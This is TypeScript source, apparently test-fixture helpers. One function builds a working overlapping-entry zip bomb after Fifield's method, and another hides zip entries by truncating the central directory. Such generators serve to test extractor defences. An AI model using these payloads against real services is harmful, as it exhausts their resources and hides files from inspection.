import { crc32, deflateRawSync } from 'node:zlib';

const EOCD = 0x06054b50;
const CENTRAL = 0x02014b50;

/** Rewrites a zip's central directory to list only its first `keep` entries; the others stay as local headers only. */
export function listOnlyFirst(zip: Buffer, keep: number): Buffer {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const size = zip.readUInt32LE(eocd + 12);
  const offset = zip.readUInt32LE(eocd + 16);
  let at = offset;
  for (let i = 0; i < keep; i++) {
    if (zip.readUInt32LE(at) !== CENTRAL) throw new Error('not a central directory entry');
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  const record = Buffer.from(zip.subarray(eocd, eocd + 22));
  record.writeUInt16LE(keep, 8);
  record.writeUInt16LE(keep, 10);
  record.writeUInt32LE(at - offset, 12);
  if (offset + size !== eocd) throw new Error('unexpected layout');
  return Buffer.concat([zip.subarray(0, at), record]);
}

const u16 = (n: number): Buffer => Buffer.from([n & 0xff, (n >>> 8) & 0xff]);
const u32 = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};

/**
 * An overlapping-entry zip bomb in the manner of Fifield's "better zip bomb": `count` local headers
 * one after another, then one deflated kernel; every entry's compressed data runs from its own
 * header to the end of the kernel, over all the headers that follow it.
 */
export function overlappingBomb(count: number, kernelBytes = 1 << 20): Buffer {
  const zeros = Buffer.alloc(kernelBytes);
  const kernel = deflateRawSync(zeros, { level: 9 });
  const names = Array.from({ length: count }, (_, i) => Buffer.from(`f${i}.jpg`));
  const headerLength = (i: number): number => 30 + names[i]!.length;
  const offsets: number[] = [];
  let at = 0;
  for (let i = 0; i < count; i++) {
    offsets.push(at);
    at += headerLength(i);
  }
  const kernelEnd = at + kernel.length;
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const compressed = kernelEnd - (offsets[i]! + headerLength(i));
    const common = [u16(20), u16(0), u16(8), u16(0), u16(0x21), u32(crc32(zeros)), u32(compressed), u32(kernelBytes), u16(names[i]!.length), u16(0)];
    locals.push(Buffer.concat([u32(0x04034b50), ...common, names[i]!]));
    centrals.push(Buffer.concat([u32(CENTRAL), u16(0x031e), ...common, u16(0), u16(0), u16(0), u32(0o100644 << 16), u32(offsets[i]!), names[i]!]));
  }
  const central = Buffer.concat(centrals);
  const record = Buffer.concat([u32(EOCD), u16(0), u16(0), u16(count), u16(count), u32(central.length), u32(kernelEnd), u16(0)]);
  return Buffer.concat([...locals, kernel, central, record]);
}
